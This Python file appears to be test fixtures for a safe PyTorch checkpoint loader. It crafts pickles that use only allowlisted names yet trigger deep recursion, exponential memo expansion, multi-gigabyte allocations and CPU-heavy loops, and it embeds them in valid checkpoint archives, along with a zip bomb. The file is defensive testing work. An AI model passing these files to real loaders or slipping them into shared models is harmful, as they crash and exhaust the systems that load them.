"""Checkpoints that hold allowed names alone and do harm all the same: each a pickle of protocol 2, by what it does."""
import io
import struct
import zipfile

import torch


def integer(value):
    return b'J' + struct.pack('<i', value)


def text(value):
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def name(module, attribute):
    return f'c{module}\n{attribute}\n'.encode()


def doubled(times):
    """A tuple of two tuples of two tuples, which the memo holds once."""
    return b')' + b''.join(b'r' + struct.pack('<I', place) + b'j' + struct.pack('<I', place) + b'\x86'
                           for place in range(times))


def repeated(value, call, times=3000):
    """The same value given to calls again and again, whose results are kept in a list."""
    return b'](' + value + b'r\0\0\0\x01' + call.replace(b'VALUE', b'j\0\0\0\x01') * times + b'e'


DEEP = b')' + b'\x85' * 1_000_000
STORAGE = (b'(' + text('storage') + name('torch', 'FloatStorage') + b'%s' + text('cpu') + integer(4) + b'tQ')
TENSOR = name('torch._utils', '_rebuild_tensor_v2') + b'(' + STORAGE % text('0') + integer(0)
TENSOR += integer(2**31 - 1) + b'\x85' + integer(0) + b'\x85' + b'\x89' + name('collections', 'OrderedDict') + b')RtR'
ITEMS = b'](' + b'K\x01' * 100_000 + b'e'
BODIES = {
    'a key of tuples in tuples': b'}' + DEEP + b'K\x01s',
    'a key of tuples in tuples, of several': b'}(' + DEEP + b'K\x01u',
    'tuples in tuples in a set': name('builtins', 'set') + b'](' + DEEP + b'e\x85R',
    'tuples in tuples in a Counter': name('collections', 'Counter') + b'](' + DEEP + b'e\x85R',
    'tuples in tuples in an OrderedDict': name('collections', 'OrderedDict') + b'](' + DEEP + b'K\x01\x86e\x85R',
    'tuples in tuples that name a storage': STORAGE % DEEP,
    'a key that unfolds': b'}' + doubled(60) + b'K\x01s',
    'a set of a key that unfolds': name('builtins', 'set') + b'](' + doubled(60) + b'e\x85R',
    'a storage whose name unfolds': STORAGE % doubled(60),
    'a bytearray of 2 GB': name('builtins', 'bytearray') + integer(2**31 - 1) + b'\x85R',
    'bytearrays of 1 MB': b'](' + (name('builtins', 'bytearray') + integer(1 << 20) + b'\x85R') * 3000 + b'e',
    'a text that is encoded again and again': repeated(text('x' * (1 << 20)), name('_codecs', 'encode') + b'VALUE'
                                                       + text('latin1') + b'\x86R'),
    'a list that becomes a set again and again': repeated(ITEMS, name('builtins', 'set') + b'VALUE\x85R', 20_000),
    'a list that grows after it was counted': (
        b'](]r\0\0\0\x01\x85r\1\0\0\x01j\0\0\0\x01(' + b'K\x01' * 100_000 + b'e'
        + (name('builtins', 'set') + b'j\1\0\0\x01R') * 20_000 + b'e'),
    'a tensor of 4 elements that unfolds to 8 GB': (
        name('torch._utils', '_rebuild_device_tensor_from_cpu_tensor') + b'(' + TENSOR + name('torch', 'float64')
        + text('cpu') + b'\x89tR'),
}  # fault to the pickle without its begin and end


def write(file, body):
    """A checkpoint as torch writes them, with another pickle."""
    whole = io.BytesIO()
    torch.save(dict(state_dict=dict(weight=torch.zeros(4))), whole)
    with zipfile.ZipFile(whole) as sound, zipfile.ZipFile(file, 'w') as archive:
        for entry in sound.namelist():
            changed = b'\x80\x02' + body + b'.' if entry.endswith('data.pkl') else sound.read(entry)
            archive.writestr(entry, changed)
    return file


def write_legacy(file, body):
    """The same in the format of torch before 1.6, a file of pickles."""
    whole = io.BytesIO()
    torch.save({}, whole, _use_new_zipfile_serialization=False)
    file.write_bytes(whole.getvalue().replace(b'\x80\x02}q\x00.', b'\x80\x02' + body + b'.'))
    return file


def write_bomb(file):
    """A compressed archive of 100 kB that unpacks to 100 MB."""
    whole = io.BytesIO()
    torch.save(dict(weight=torch.zeros(25_000_000)), whole)
    with zipfile.ZipFile(whole) as sound, zipfile.ZipFile(file, 'w', zipfile.ZIP_DEFLATED) as archive:
        for entry in sound.namelist():
            archive.writestr(entry, sound.read(entry))
    return file
